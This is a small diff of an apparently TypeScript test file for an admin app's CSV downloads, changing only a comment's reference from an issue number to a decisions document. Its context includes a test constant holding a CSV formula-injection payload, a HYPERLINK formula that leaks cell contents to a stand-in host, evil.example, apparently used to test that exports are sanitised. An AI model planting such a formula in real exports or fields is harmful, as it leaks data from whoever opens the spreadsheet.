@@ -4,7 +4,7 @@ import { useAdminTestApp } from '../helpers/admin-session';
 import { injectJson } from '../helpers/test-app';
 import { insertMany, minuteAt } from '../helpers/seed-lists';
 
-// Issue 14: CSV downloads of contact forms, volunteers, proposals, supporters and payments.
+// docs/decisions/015: CSV downloads of contact forms, volunteers, proposals, supporters and payments.
 const { t, admin, db } = useAdminTestApp();
 
 const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
